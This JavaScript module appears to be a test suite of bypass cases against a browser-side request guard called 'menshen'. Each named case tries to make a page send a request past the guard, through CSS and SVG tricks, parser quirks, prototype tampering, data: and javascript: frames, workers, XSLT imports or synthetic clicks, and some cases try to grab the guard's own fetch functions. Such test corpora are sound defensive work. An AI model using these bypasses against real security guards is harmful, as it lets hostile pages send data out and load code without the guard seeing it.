// What an attacker found who had read the guard: texts that it reads otherwise than an engine, nodes that no seam sees, page code that the guard runs.
const stand = (tag, more = {}, into = document.body) => { const e = document.createElement(tag); for (const name in more) e.setAttribute(name, more[name]); into.append(e); return e; };
const drawn = e => { e.append('x'); getComputedStyle(e).backgroundImage; return e; };
const sheet = text => { const s = document.createElement('style'); s.textContent = text; document.head.append(s); return s; };
const script = (type, text) => { const s = document.createElement('script'); s.setAttribute('type', type); s.textContent = text; document.head.append(s); return s; };
const id = () => 'i' + Math.random().toString(36).slice(2);
/** An address without its scheme, and as XML writes it. */
const bare = url => url.slice(5);
const xml = url => url.replace(/&/g, '&amp;');
const parsed = (html, type = 'text/html') => new DOMParser().parseFromString(html, type);
const busy = () => { for (const end = Date.now() + 200; Date.now() < end;) { /* the request goes its way */ } };
const svg = (tag = 'svg', into = document.body, more = {}) => { const e = document.createElementNS('http://www.w3.org/2000/svg', tag); for (const name in more) e.setAttribute(name, more[name]); into.append(e); return e; };
const named = (more = {}) => stand('iframe', { name: id(), ...more });
const send = (w, url) => w.fetch(url, { mode: 'no-cors' });
const XLINK = 'http://www.w3.org/1999/xlink';
const sent = url => 'fetch(' + JSON.stringify(url) + ',{mode:"no-cors"})';
const end = '</scr' + 'ipt>';
/** A document that sends, as the data of an address. */
const data = url => 'data:text/html,' + encodeURIComponent('<script>' + sent(url) + end);
/** A frame with a document of XML, once it is there. */
const xhtml = act => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<html xmlns="http://www.w3.org/1999/xhtml"><head/><body/></html>'], { type: 'application/xhtml+xml' })); f.onload = () => { f.onload = null; act(f.contentDocument); }; document.body.append(f); };
/** Something of the page's own stands in a prototype while `act` runs. */
const within = (owner, name, descriptor, act) => { const was = Object.getOwnPropertyDescriptor(owner, name); Object.defineProperty(owner, name, { configurable: true, ...descriptor }); try { return act(); } finally { if (was) Object.defineProperty(owner, name, was); else delete owner[name]; } };

/** Under the guard `arm` lies in wait for the guard's insides; a device call loads what has them, and what takes them sends by them. */
const seized = (at, result, arm) => {
  send(window, at('/x'));
  if (!self.menshen) return undefined;
  arm(self.menshen, inner => { for (const name in inner) if (typeof inner[name] === 'function' && /fetch/.test(inner[name].name)) inner[name](at('/x'), { mode: 'no-cors' }); return result; });
  navigator.mediaDevices.enumerateDevices();
  return new Promise(() => {});
};

export const helpers = { stand, drawn, sheet, script, id, bare, xml, parsed, busy, svg, named, send, XLINK, sent, end, data, xhtml, within, seized };
export default [
  // Texts.
  ['O9 an image of a set behind what is named as data are', at => { new Image().srcset = '/own.gif base64,' + bare(at('/x.gif')); }],
  ['O9 markup with a name as data have it', at => { stand('div').innerHTML = '<img base64,/src=' + bare(at('/x.gif')) + '>'; }],
  ['O9 markup with a name as an address of the own has it', at => { stand('div').innerHTML = '<img //' + location.host + '/src=' + bare(at('/x.gif')) + '>'; }],
  ...[['a form feed', '/\\\f/'], ['a return', '/\\\r/'], ['a return and a line', '/\\\r\n/'], ['a return and a line behind an escape', '\\2f\r\n\\2f\r\n']].map(([what, how]) =>
    [`O10 slashes that ${what} parts`, `at => { drawn(stand('div')).style.background = 'url("' + ${JSON.stringify(how)} + bare(at('/x.gif')).slice(2) + '")'; }`]),
  ['O10 a made sheet with a base', at => { const name = id(), s = new CSSStyleSheet({ baseURL: at('/').replace(/\?.*/, '') }); drawn(stand('div', { id: name })); s.replaceSync('#' + name + '{background:url("x.gif' + at('/x.gif').replace(/^[^?]*/, '') + '")}'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; }],
  ['O10 CSS.registerProperty', at => { const name = '--' + id(); CSS.registerProperty({ name, syntax: '<image>', inherits: false, initialValue: 'url("' + at('/x.gif') + '")' }); drawn(stand('div')).style.background = 'var(' + name + ')'; }],
  ['O10 addRule whose selector says more', at => { const name = id(), s = sheet(''); drawn(stand('div', { id: name })); s.sheet.addRule('#' + name + '{background:url("' + at('/x.gif') + '");--x:', ''); }],
  ['O10 style by defineProperty', at => { Object.defineProperty(drawn(stand('div')).style, 'backgroundImage', { value: 'url("' + at('/x.gif') + '")', writable: true, enumerable: true, configurable: true }); }],
  ['O10 style that a getter hands out', at => { const name = id(); within(CSSStyleDeclaration.prototype, name, { get() { return this; } }, () => { drawn(stand('div')).style[name].backgroundImage = 'url("' + at('/x.gif') + '")'; }); }],
  ['O10 style that a setter hands out', at => { const name = id(); let got; within(CSSStyleDeclaration.prototype, name, { set() { got = this; } }, () => { drawn(stand('div')).style[name] = 'x'; got.backgroundImage = 'url("' + at('/x.gif') + '")'; }); }],
  ['O10 style by a prototype of its own', at => { let got; const s = drawn(stand('div')).style, was = Object.getPrototypeOf(s); Object.setPrototypeOf(s, new Proxy(was, { get: (on, name, self) => name === 'hand' ? (got = self) : Reflect.get(on, name, self) })); s.hand; got.backgroundImage = 'url("' + at('/x.gif') + '")'; }],
  ['O10 FontFace of what becomes a text', at => { document.fonts.add(new FontFace('x', { toString: () => 'url("' + at('/x') + '")' })); for (const f of document.fonts) f.load().catch(() => 0); }],
  ['O9 insertImage', at => { const e = stand('div', { contenteditable: 'true' }); e.append('x'); e.focus(); getSelection().selectAllChildren(e); document.execCommand('insertImage', false, at('/x.gif')); }],
  ['S10 an import map whose type has white space', at => { const name = id(); script(' importmap ', JSON.stringify({ imports: { [name]: at('/x.js') } })); script('module', 'import ' + JSON.stringify(name)); }, { alone: true }],
  ['S10 an import map that shows itself otherwise', at => { const name = id(); within(Object.prototype, 'toJSON', { value: () => 1 }, () => { script('importmap', '{"imports":{"' + name + '":"' + at('/x.js') + '"}}'); }); script('module', 'import ' + JSON.stringify(name)); }, { alone: true }],
  ['O15 a refresh that becomes one', at => { const m = stand('meta', { content: '0;url=' + at('/x.html') }, document.head); m.httpEquiv = 'refresh'; }, { alone: true }],
  // Addresses of SVG.
  ['O9 an SVG image by an attribute with a prefix of its own', at => { const i = svg('image', svg(), { width: 9, height: 9 }), a = document.createAttributeNS(XLINK, 'x:href'); a.value = at('/x.gif'); i.setAttributeNode(a); }],
  ['S2 an SVG script by an attribute with a prefix of its own', at => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'), a = document.createAttributeNS(XLINK, 'x:href'); a.value = at('/x.js'); s.setAttributeNodeNS(a); svg().append(s); }],
  ['O9 the value of an attribute with a prefix of its own', at => { const i = svg('image', svg(), { width: 9, height: 9 }); i.setAttributeNS(XLINK, 'x:href', '/own.gif'); i.getAttributeNodeNS(XLINK, 'href').value = at('/x.gif'); }],
  ['O9 a parsed SVG image with a prefix of its own', at => { const d = parsed('<svg xmlns="http://www.w3.org/2000/svg" xmlns:y="' + XLINK + '"><image width="9" height="9" y:href="' + xml(at('/x.gif')) + '"/></svg>', 'image/svg+xml'); document.body.append(d.documentElement); }],
  ...['mask', 'clip-path', 'marker-start'].map(name =>
    [`O10 an animation of ${name}`, `at => { const r = svg('path', svg('svg', document.body, { width: 9, height: 9 }), { d: 'M0 0L5 5L9 9', width: 9, height: 9 }); svg('set', r, { attributeName: ${JSON.stringify(name)}, to: 'url("' + at('/x.gif') + '#a")', begin: '0s' }); }`]),
  ['O10 markup of a font of SVG', at => { stand('div').innerHTML = '<svg><defs><font-face font-family="zy"><font-face-src><font-face-uri xlink:href="' + at('/x') + '#a"/></font-face-src></font-face></defs><text y="20" font-family="zy">xyz</text></svg>'; }],
  // Markup that means something else where it goes.
  ['O9 setHTML of what is nowhere', at => { document.createElement('div').setHTML('<img src="' + at('/x.gif') + '">', { sanitizer: new Sanitizer({}) }); }],
  ['O9 a title of SVG in a range', at => { const r = new Range(); r.selectNodeContents(svg()); r.createContextualFragment('<title><img src="' + at('/x.gif') + '"></title>'); }],
  ['O9 a column before a picture in a shadow tree', at => { document.createElement('div').attachShadow({ mode: 'closed' }).innerHTML = '<col><img src="' + at('/x.gif') + '">'; }],
  ['O9 a column before a picture in a range', at => { const r = new Range(); r.selectNodeContents(document.createElement('div')); r.createContextualFragment('<col><img src="' + at('/x.gif') + '">'); }],
  ['S15 a column before a picture in srcdoc', at => { stand('iframe').srcdoc = '<col><img src="' + at('/x.gif') + '">'; }],
  ['O9 a column before a picture by execCommand', at => { const e = stand('div', { contenteditable: 'true' }); e.append('x'); e.focus(); getSelection().selectAllChildren(e); document.execCommand('insertHTML', false, '<col><img src="' + at('/x.gif') + '">'); }],
  ['S5 a title of SVG, written in pieces', at => { const d = stand('iframe').contentDocument; d.open(); d.write('<svg>'); d.write('<title><img src="' + at('/x.gif') + '"></title>'); busy(); d.close(); }],
  ['O9 a title in a document of XML', at => xhtml(d => { d.body.innerHTML = '<title><img src="' + xml(at('/x.gif')) + '"/></title>'; busy(); }), { ms: 3000 }],
  ['O10 style with a prefix in a document of XML', at => xhtml(d => { d.body.innerHTML = '<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "' + xml(at('/x.css')) + '";</h:style>'; busy(); }), { ms: 3000 }],
  // Nodes that come in where there is no seam.
  ['O9 an image of a parsed document by a place of a select', at => { const d = parsed('<img src="' + at('/x.gif') + '">'), o = d.createElement('option'); o.append(d.images[0]); document.createElement('select')[0] = o; }, { open: 'options' }],
  ['O9 an image of a parsed document by a place of its options', at => { const d = parsed('<img src="' + at('/x.gif') + '">'), o = d.createElement('option'); o.append(d.images[0]); document.createElement('select').options[0] = o; }, { open: 'options' }],
  ['realm a frame by a place of a select', at => { const s = stand('select'), o = document.createElement('option'), n = length; o.append(document.createElement('iframe')); s[0] = o; send(window[n], at('/x')); }, { alone: true, open: 'options' }],
  // Frames whose document says something by itself.
  ['S15 a frame in a sandbox', at => { const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = '<script>' + sent(at('/x')) + end; document.body.append(f); }],
  ['S15 a text of javascript:', at => { const f = document.createElement('iframe'); f.src = 'javascript:' + encodeURIComponent(JSON.stringify('<img src="' + at('/x.gif') + '">')); document.body.append(f); }],
  ['S15 a script of a text of javascript:', at => { const f = document.createElement('iframe'); f.src = 'javascript:' + encodeURIComponent(JSON.stringify('<script>' + sent(at('/x')) + end)); document.body.append(f); }],
  ['S15 a text of javascript: in a document that stands', at => { const f = stand('iframe', { src: '/own.html' }); f.onload = () => { f.onload = null; f.src = 'javascript:' + encodeURIComponent(JSON.stringify('<script>' + sent(at('/x')) + end)); }; }, { ms: 3000 }],
  ['S15 a text of javascript: by window.open', at => { window.open('javascript:' + encodeURIComponent(JSON.stringify('<img src="' + at('/x.gif') + '">')), named().name); }],
  ['S15 data by window.open', at => { window.open(data(at('/x')), named().name); }],
  ['S15 data by a form', at => { const o = stand('form', { action: data(at('/x')), method: 'post', target: named().name }); o.submit(); }],
  ['S15 data by a link', at => { stand('a', { href: data(at('/x')), target: named().name }).click(); }],
  ['S15 data by the location of a document that stands', at => { const f = stand('iframe', { src: '/own.html' }); f.onload = () => { f.onload = null; f.contentWindow.location = data(at('/x')); }; }, { ms: 3000, open: 'navigation' }],
  ['S15 data by a refresh in srcdoc', at => { stand('iframe').srcdoc = '<meta http-equiv="refresh" content="0;url=' + data(at('/x')) + '">'; return new Promise(() => {}); }, { ms: 3000 }],
  // Page code in the middle.
  ['O3 XMLHttpRequest whose method opens another', at => { const x = new XMLHttpRequest(); x.open({ toString() { x.open('GET', '/own'); return 'GET'; } }, at('/x')); x.send(); }],
  ['O1 fetch of nothing while lists have a place', at => { within(Array.prototype, '1', { value: at('/x'), writable: true }, () => fetch('http://[', { mode: 'no-cors' }).catch(() => 0)); send(window, at('/x')); }, { alone: true }],
  ['realm a frame while texts replace nothing', at => { const n = length; within(String.prototype, 'replace', { value: () => 'none', writable: true }, () => stand('iframe')); send(window[n], at('/x')); }, { alone: true }],
  ['realm a frame and a script while lists keep nothing', at => { const d = new DocumentFragment(), n = length, s = document.createElement('script'), f = document.createElement('iframe'); s.textContent = 'window[' + n + '].' + sent(at('/x')); d.append(f, s); within(Array.prototype, '0', { get() { return undefined; }, set() { /* gone */ } }, () => document.body.append(d)); }, { alone: true }],
  ['O10 keyframes while lists have a place', at => { const e = drawn(stand('div')), evil = { backgroundImage: 'url("' + at('/x.gif') + '")' }; within(Array.prototype, '0', { get() { return evil; }, set() { /* gone */ } }, () => e.animate([{ backgroundImage: 'none' }], { duration: 9000, fill: 'both' })); e.animate([evil, evil], 9000); }, { alone: true }],
  ['S11 a worker while lists are read otherwise', at => { const was = Array.prototype[Symbol.iterator], evil = sent(at('/x')); const address = URL.createObjectURL(new Blob(['1'])); within(Array.prototype, Symbol.iterator, { value() { return was.call(this.length === 1 && typeof this[0] === 'string' && this[0].length > 500 ? [evil] : this); }, writable: true }, () => new Worker(address)); new Worker(URL.createObjectURL(new Blob([evil]))); }, { alone: true, ms: 2500 }],
  ['S11 a worker whose functions come first', at => { new Worker(URL.createObjectURL(new Blob(['function WeakMap() { ' + sent(at('/x')) + '; } new WeakMap();']))); }, { ms: 2500 }],
  ['S11 a worker that has another Proxy', at => { new Worker(URL.createObjectURL(new Blob(['function Proxy(on) { return on; } new EventSource(' + JSON.stringify(at('/x')) + ')']))); }, { ms: 2500 }],
  ['O9 a default policy while objects have a place', at => { let kept; within(Object.prototype, 'createHTML', { get() { return kept; }, set() { kept = () => '<img src="' + at('/x.gif') + '">'; } }, () => trustedTypes.createPolicy('default', { createHTML: () => '<img src="' + at('/x.gif') + '">' })); stand('meta', { 'http-equiv': 'Content-Security-Policy', content: "require-trusted-types-for 'script'" }, document.head); document.createElement('div').innerHTML = 'x'; }, { alone: true }],
  ['O1 Cache.addAll while lists are read otherwise', async at => { const cache = await caches.open('draft'), was = Array.prototype[Symbol.iterator], evil = new Request(at('/x'), { mode: 'no-cors' }); within(Array.prototype, Symbol.iterator, { value() { return was.call(this.length === 1 && this[0] === '/own' ? [evil] : this); }, writable: true }, () => cache.addAll(['/own']).catch(() => 0)); cache.addAll([evil]); }, { alone: true }],
  // Acts of a script that no listener hears.
  ['O15 a click on a link that is nowhere', at => { const a = document.createElement('a'); a.href = at('/x.html'); a.click(); }, { alone: true }],
  ['S15 a click on a link that is nowhere, into a frame', at => { const a = document.createElement('a'); a.target = named().name; a.href = at('/x.html'); a.click(); }],
  ['S15 a click that is stopped on its way to a link', at => { const a = stand('a', { href: at('/x.html'), target: named().name }), stop = event => { if (event.target === a) event.stopImmediatePropagation(); }; addEventListener('click', stop, true); a.click(); removeEventListener('click', stop, true); }],
  ['O13 a click that is stopped on its way to a button', at => { const o = stand('form', { action: at('/x.html'), method: 'post', target: named().name }), b = stand('button', {}, o), stop = event => { if (event.target === b) event.stopImmediatePropagation(); }; addEventListener('click', stop, true); b.click(); removeEventListener('click', stop, true); }, { alone: true }],
  ['O13 an action that changes when the data are asked for', at => { const o = stand('form', { action: '/own', method: 'post', target: named().name }); o.onformdata = () => { o.action = at('/x.html'); }; o.requestSubmit(); }, { open: 'submit' }],
  ['O13 a form in a shadow tree of markup', at => { const d = stand('div'); d.setHTMLUnsafe('<p><template shadowrootmode="open"><form method="post" action="' + at('/x.html') + '" target="' + named().name + '"></form></template></p>'); d.firstChild.shadowRoot.firstChild.requestSubmit(); }],
  ['S15 a link in a shadow tree of markup', at => { const d = stand('div'); d.setHTMLUnsafe('<p><template shadowrootmode="open"><a href="' + at('/x.html') + '" target="' + named().name + '">x</a></template></p>'); d.firstChild.shadowRoot.firstChild.click(); }],
  ['S15 a link around a slot', at => { const d = stand('div'), b = stand('b', {}, d), r = d.attachShadow({ mode: 'open' }), a = stand('a', { href: at('/x.html'), target: named().name }, r); a.append(document.createElement('slot')); b.click(); }],
  ['O13 a button after document.open', at => { document.open(); document.write('<body><p>x'); document.close(); const o = stand('form', { action: at('/x.html'), method: 'post', target: named().name }); stand('button', {}, o).click(); }, { alone: true }],
  ['S15 a link after document.open', at => { document.open(); document.write('<body><p>x'); document.close(); stand('a', { href: at('/x.html'), target: named().name }).click(); }, { alone: true }],
  ['O1 a part of the guard, handed over in its place', at => seized(at, {}, (guard, take) => {
    for (const type of [Array, String]) { const was = type.prototype[Symbol.iterator]; type.prototype[Symbol.iterator] = function () { if (document.currentScript && document.currentScript.src) guard.part('desk', take); return was.call(this); }; }
  }), { alone: true, ms: 4000 }],
  ['O1 a part of the guard, handed over before its script runs', at => seized(at, {}, (guard, take) => {
    document.addEventListener('beforescriptexecute', () => guard.part('desk', take), true);
  }), { alone: true, ms: 4000 }],
  ['O1 a part of the guard, handed over while it reads a name', at => seized(at, () => {}, (guard, take) => {
    const define = Object.defineProperty;
    define(Object, 'defineProperty', { get() { if (document.currentScript && /late|memory/.test(document.currentScript.src)) guard.part('late', take); return define; } });
  }), { alone: true, ms: 4000 }],
  ['O11 a column before a sheet in a shadow tree', at => { stand('div').attachShadow({ mode: 'closed' }).innerHTML = '<col><link rel="stylesheet" href="' + at('/x.css') + '">'; busy(); }],
  ['S15 a column before a script in srcdoc', at => { stand('iframe').srcdoc = '<col><script src="' + at('/x.js') + '">' + end; }],
  ['S5 a sheet in a title of SVG, written in pieces', at => { const d = stand('iframe').contentDocument; d.open(); d.write('<svg>'); d.write('<title><link rel="stylesheet" href="' + at('/x.css') + '"></title>'); busy(); d.close(); }],
  ['S5 a script in a title of SVG, written in pieces', at => { const d = stand('iframe').contentDocument; d.open(); d.write('<svg>'); d.write('<title><script src="' + at('/x.js') + '">' + end + '</title>'); busy(); d.close(); }],
  ['O11 a sheet in a title in a document of XML', at => xhtml(d => { d.body.innerHTML = '<title><link rel="stylesheet" href="' + xml(at('/x.css')) + '"/></title>'; busy(); }), { ms: 3000 }],
  ['O3 XMLHttpRequest whose body opens another', at => { const x = new XMLHttpRequest(); x.open('POST', '/own'); x.send({ toString() { x.open('POST', at('/x')); return 'x'; } }); }],
  ['O9 an image that comes in while another node is judged', at => {
    const d = parsed('<img src="' + at('/x.gif') + '">'), all = d.createDocumentFragment(), name = 'x-' + id();
    customElements.define(name, class extends HTMLElement {
      static observedAttributes = ['data-menshen-style'];
      attributeChangedCallback(_, was, value) { if (was !== null && value === null) all.append(d.images[0]); }
    });
    const e = document.createElement(name);
    all.append(e);
    e.setAttribute('data-menshen', '');
    e.setAttribute('data-menshen-style', 'color:red');
    if (!self.menshen) all.append(d.images[0]);
    document.createElement('div').append(all);
  }],
  ['S4 XSLT: an import that comes later', at => {
    const d = parsed('<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet version="1.0"><xsl:template match="/"><b/></xsl:template></xsl:stylesheet><xsl:import href="' + xml(at('/x')) + '"/></x>', 'text/xml'), p = new XSLTProcessor(), s = d.documentElement.firstChild;
    p.importStylesheet(s);
    s.prepend(d.documentElement.lastChild);
    p.transformToFragment(parsed('<y/>', 'text/xml'), document);
  }],
  ['S4 XSLT: an import that comes later, to a document', at => {
    const d = parsed('<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet version="1.0"><xsl:template match="/"><b/></xsl:template></xsl:stylesheet><xsl:import href="' + xml(at('/x')) + '"/></x>', 'text/xml'), p = new XSLTProcessor(), s = d.documentElement.firstChild;
    p.importStylesheet(s);
    s.prepend(d.documentElement.lastChild);
    p.transformToDocument(parsed('<y/>', 'text/xml'));
  }],
  ['O16 a popup by its location', at => { const w = window.open('about:blank'); w.location = at('/x.html'); }, { alone: true, open: 'popup' }],
  ['O15 navigation.navigate', at => { navigation.navigate(at('/x.html')); }, { alone: true }],
  ['O15 a download of a link that is nowhere', at => { const a = document.createElement('a'); a.href = at('/x.html'); a.download = 'x'; a.click(); }, { alone: true }],
  ['O15 a download of a link', at => { stand('a', { href: at('/x.html'), download: 'x' }).click(); }, { alone: true }],
  // Ways around what judges the acts of a script.
  ['S15 a link whose address changes in its click', at => { const a = stand('a', { href: '/own', target: named().name }); a.onclick = () => { a.href = at('/x.html'); }; a.click(); }, { open: 'link' }],
  ['S15 a link of SVG, by its old address', at => { const a = svg('a', svg(), { target: named().name }); a.setAttributeNS(XLINK, 'xlink:href', at('/x.html')); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); }],
  ['S15 a text around which a link is, by an event that nobody can keep', at => { const a = stand('a', { href: at('/x.html'), target: named().name }), x = new Text('x'); a.append(x); x.dispatchEvent(new MouseEvent('click', { bubbles: true })); }],
  ['O13 a button that is activated', at => { const o = stand('form', { action: at('/x.html'), method: 'post', target: named().name }), b = stand('button', {}, o); addEventListener('DOMActivate', e => e.stopImmediatePropagation(), true); b.dispatchEvent(new UIEvent('DOMActivate', { bubbles: true, cancelable: true })); }],
  ['S15 a link around a slot in a closed tree', at => { const d = stand('div'), b = stand('b', {}, d), r = d.attachShadow({ mode: 'closed' }), a = stand('a', { href: at('/x.html'), target: named().name }, r); a.append(document.createElement('slot')); b.click(); }],
  ['S15 a link around a slot in a closed tree, stopped', at => { const d = document.createElement('div'), b = stand('b', {}, d), r = d.attachShadow({ mode: 'closed' }), a = stand('a', { href: at('/x.html'), target: named().name }, r); a.append(document.createElement('slot')); d.addEventListener('click', e => e.stopImmediatePropagation(), true); b.click(); }, { open: 'link' }],
  ['S15 a link by aux', at => { const a = stand('a', { href: at('/x.html'), target: named().name }); a.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, button: 1 })); a.dispatchEvent(new MouseEvent('auxclick', { bubbles: true })); }],
  ['S15 a link by a plain event', at => { const a = stand('a', { href: at('/x.html'), target: named().name }); a.dispatchEvent(new Event('click')); }],
  ['S15 data by a link that is saved in SVG', at => { const a = svg('a', svg(), { target: named().name, download: 'x', href: data(at('/x')) }); a.dispatchEvent(new MouseEvent('click')); }],
  ['S15 a link by Enter', at => { const a = stand('a', { href: at('/x.html'), target: named().name }); a.focus(); for (const t of ['keydown', 'keypress', 'keyup']) a.dispatchEvent(new KeyboardEvent(t, { key: 'Enter', code: 'Enter', keyCode: 13, which: 13, bubbles: true, cancelable: true })); }],
];
